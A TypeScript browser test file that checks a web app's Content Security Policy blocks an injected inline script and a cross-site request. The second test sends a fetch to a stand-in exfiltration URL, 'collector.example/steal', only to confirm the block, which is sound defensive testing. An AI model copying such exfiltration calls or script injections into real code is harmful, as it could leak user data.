import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, openPage, takeCspViolations } from './browser';

/**
 * The local server sends the CSP CloudFront sends (shared/src/security-headers.ts). These
 * show the browser enforces it here, so the journeys' clean runs mean the app works under it.
 */
describe('Content Security Policy', () => {
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    browser = await launchBrowser();
    ({ page } = await openPage(browser));
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('refuses an injected inline script, and the tests hear about it', async () => {
    await page.goto('/');
    await page.getByRole('heading', { level: 1 }).waitFor();
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      return (window as unknown as { injected?: boolean }).injected === true;
    });
    expect(ran).toBe(false);
    await expect
      .poll(() => takeCspViolations())
      .toEqual([
        expect.stringMatching(/Content Security Policy violation: script-src(-elem)? blocked inline on \//),
      ]);
  });

  it('refuses a request to another site', async () => {
    await page.goto('/login');
    const reached = await page.evaluate(() =>
      fetch('https://collector.example/steal').then(
        () => true,
        () => false,
      ),
    );
    expect(reached).toBe(false);
    await expect
      .poll(() => takeCspViolations())
      .toEqual([expect.stringContaining('connect-src blocked https://collector.example/steal')]);
  });
});
